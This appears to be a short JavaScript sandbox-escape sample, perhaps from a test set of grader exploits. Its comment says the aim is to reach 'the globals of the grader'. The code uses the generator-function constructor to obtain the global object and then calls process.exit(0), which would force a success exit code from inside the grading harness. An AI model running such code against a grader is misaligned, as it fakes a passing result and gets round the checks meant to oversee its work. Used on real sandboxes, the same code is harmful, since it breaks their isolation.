// aim: reach the globals of the grader through the generator constructor
// ends: error import
const world = (function* () {}).constructor('return this')().next().value;
world.process.exit(0);
